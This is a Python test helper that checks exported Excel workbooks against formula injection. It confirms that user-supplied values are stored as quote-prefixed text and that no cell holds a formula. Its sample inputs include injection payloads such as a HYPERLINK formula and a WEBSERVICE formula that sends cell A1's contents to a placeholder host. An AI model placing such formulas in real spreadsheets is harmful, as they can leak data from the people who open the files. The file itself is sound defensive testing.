"""Workbooks the app wrote, read back as a spreadsheet reads them: what each cell
holds and whether the file carries any formula."""

from __future__ import annotations

import io
import posixpath
import zipfile
from xml.etree import ElementTree

from openpyxl import load_workbook

# Names a user might type that a spreadsheet would take for formulas.
HYPERLINK = '=HYPERLINK("http://x","y")'
WEBSERVICE = '=WEBSERVICE("http://x/?"&A1)'
PLUS, MINUS, AT, TAB = "+1+1", "-2+3", "@SUM(A1)", "\t=1"
FORMULA_LIKE = (HYPERLINK, WEBSERVICE, PLUS, MINUS, AT, TAB)

_MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
_RELATIONSHIP = "{http://schemas.openxmlformats.org/officeDocument/2006/relationships}id"
_PACKAGE = "{http://schemas.openxmlformats.org/package/2006/relationships}"


def _parsed(archive: zipfile.ZipFile, part: str) -> ElementTree.Element:
    return ElementTree.fromstring(archive.read(part))  # noqa: S314 - a file the app itself just wrote


def _sheet_parts(archive: zipfile.ZipFile) -> dict[str, str]:
    """Sheet name → the path of its XML part, as a spreadsheet finds it."""
    targets = {
        rel.get("Id"): rel.get("Target")
        for rel in _parsed(archive, "xl/_rels/workbook.xml.rels").iter(f"{_PACKAGE}Relationship")
    }
    parts = {}
    for sheet in _parsed(archive, "xl/workbook.xml").iter(f"{_MAIN}sheet"):
        target = targets[sheet.get(_RELATIONSHIP)]
        parts[sheet.get("name")] = target.lstrip("/") if target.startswith("/") else posixpath.join("xl", target)
    return parts


def formulas(content: bytes) -> list[str]:
    """Every cell of the workbook that holds a formula (``<f>``), as "sheet!A1"."""
    found = []
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name, part in _sheet_parts(archive).items():
            for cell in _parsed(archive, part).iter(f"{_MAIN}c"):
                if cell.find(f"{_MAIN}f") is not None:
                    found.append(f"{name}!{cell.get('r')}")
    return found


def assert_written_as_text(content: bytes, cells: dict[tuple[str, str], str]) -> None:
    """Each cell of ``cells`` ((sheet, coordinate) → text) holds exactly that text, as
    text: a string once opened, marked so that editing it keeps it text, and no formula
    in the file's XML for it (nor for any other cell)."""
    book = load_workbook(io.BytesIO(content))
    for (sheet, coordinate), text in cells.items():
        cell = book[sheet][coordinate]
        assert (cell.data_type, cell.value) == ("s", text), f"{sheet}!{coordinate}"
        assert cell.quotePrefix, f"{sheet}!{coordinate}"
    assert formulas(content) == []
